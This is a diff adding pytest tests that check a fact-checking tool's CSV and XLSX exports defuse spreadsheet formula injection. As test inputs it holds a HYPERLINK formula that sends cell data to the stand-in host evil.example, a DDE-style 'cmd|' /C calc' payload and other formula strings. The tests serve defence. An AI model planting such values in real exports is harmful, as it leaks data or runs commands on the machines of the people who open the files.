@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
+from typing import Any
 
 import jsonschema
+import openpyxl
 import pandas as pd
 import pytest
 from test_events import crash_event
-from test_scan import CRASH
+from test_scan import BAY_HERALD, CAPITAL_DAILY, CRASH
 
 from verifier.errors import InputError
-from verifier.export import FORMATS, claim_reviews, export, export_bytes, flagged_pairs
+from verifier.export import FORMATS, claim_reviews, export, export_bytes, flagged_pairs, spreadsheet_cell
 from verifier.scan import review, scan_new
 from verifier.workspace import Workspace
 
@@ -123,3 +127,107 @@ def test_unknown_format_and_claimreview_of_an_event_are_refused(flagged: Workspa
     with pytest.raises(InputError, match="drop --event"):
         export_bytes(flagged, "claimreview", event_id="x")
     assert FORMATS == ("csv", "xlsx", "json", "claimreview")
+
+
+# -- spreadsheet safety ---------------------------------------------------------------------------------
+
+# An outlet that would open a link carrying another cell's content, a title a spreadsheet would sum, and a
+# reviewer's note it would run: each must reach the sheet as the text it is.
+LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open source")'
+SUM_TITLE = "@SUM(1+1)"
+COMMAND_NOTE = "+cmd"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("+cmd", "'+cmd"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("-10", "-10"),  # a negative figure is a number, not a formula
+        ("+3", "+3"),
+        ("1,200.5", "1,200.5"),
+        ("Twenty-two", "Twenty-two"),
+        ("a sum = 4", "a sum = 4"),  # only the first character makes a formula
+        ("", ""),
+        (22, 22),
+        (-0.5, -0.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_cell(value: Any, cell: Any) -> None:
+    assert spreadsheet_cell(value) == cell
+
+
+@pytest.fixture
+def hostile(workspace: Workspace) -> Workspace:
+    """The bus-crash articles with a formula for an outlet and a title, scanned; every pair noted `+cmd`."""
+    articles = [
+        dataclasses.replace(a, source=LINK_FORMULA, title=SUM_TITLE) if a.id == CAPITAL_DAILY.id else a
+        for a in CRASH
+    ]
+    workspace.ingest_articles(articles)
+    scan_new(workspace)
+    for pair in flagged_pairs(workspace):
+        review(workspace, pair.id, "confirm", note=COMMAND_NOTE)
+    return workspace
+
+
+def csv_rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+
+
+def xlsx_rows(data: bytes) -> tuple[list[dict[str, Any]], set[str]]:
+    """The rows of the first sheet, and the data types of every cell ('f' would be a live formula)."""
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = list(sheet.iter_rows())
+    header = [c.value for c in cells[0]]
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in cells[1:]]
+    return rows, {c.data_type for row in cells for c in row}
+
+
+def test_formulas_reach_the_csv_as_text(hostile: Workspace) -> None:
+    rows = csv_rows(export_bytes(hostile, "csv"))
+    assert len(rows) == 2
+    for row in rows:
+        side = "a" if row["a_article_id"] == CAPITAL_DAILY.id else "b"
+        assert row[f"{side}_source"] == "'" + LINK_FORMULA
+        assert row[f"{side}_title"] == "'" + SUM_TITLE
+        assert row["note"] == "'" + COMMAND_NOTE
+        assert float(row["score"]) > 0  # numbers stay numbers
+    assert not [v for row in rows for v in row.values() if v.startswith(("=", "+", "-", "@"))]
+
+
+def test_formulas_reach_the_xlsx_as_text(hostile: Workspace) -> None:
+    rows, types = xlsx_rows(export_bytes(hostile, "xlsx"))
+    assert "f" not in types  # no cell is a formula
+    sources = {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
+    titles = {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
+    assert "'" + LINK_FORMULA in sources and "'" + SUM_TITLE in titles
+    assert {r["note"] for r in rows} == {"'" + COMMAND_NOTE}
+    assert all(isinstance(r["score"], float) for r in rows)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_event_table_neutralises_the_outlet_but_not_the_figures(workspace: Workspace, fmt: str) -> None:
+    workspace.ingest_articles([dataclasses.replace(CAPITAL_DAILY, source=LINK_FORMULA)])
+    event = crash_event(workspace)
+    data = export_bytes(workspace, fmt, event_id=event.id)
+    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)[0]
+    killed = {(r["source"], r["figure"]) for r in rows if r["measure"] == "killed"}
+    assert ("'" + LINK_FORMULA, "Twenty-two") in killed
+    assert ("Bay Herald", "9") in killed
+
+
+def test_xlsx_export_of_text_with_control_characters(workspace: Workspace) -> None:
+    # A terminal escape and a NUL in an article: XML cannot hold them, and one must not hide a formula.
+    noisy = dataclasses.replace(BAY_HERALD, source="\x00=1+2", title="Bay \x1b[31mHerald")
+    workspace.ingest_articles([noisy, *CRASH[1:]])
+    scan_new(workspace)
+    rows, types = xlsx_rows(export_bytes(workspace, "xlsx"))
+    assert "f" not in types
+    assert "'=1+2" in {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
+    assert "Bay [31mHerald" in {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
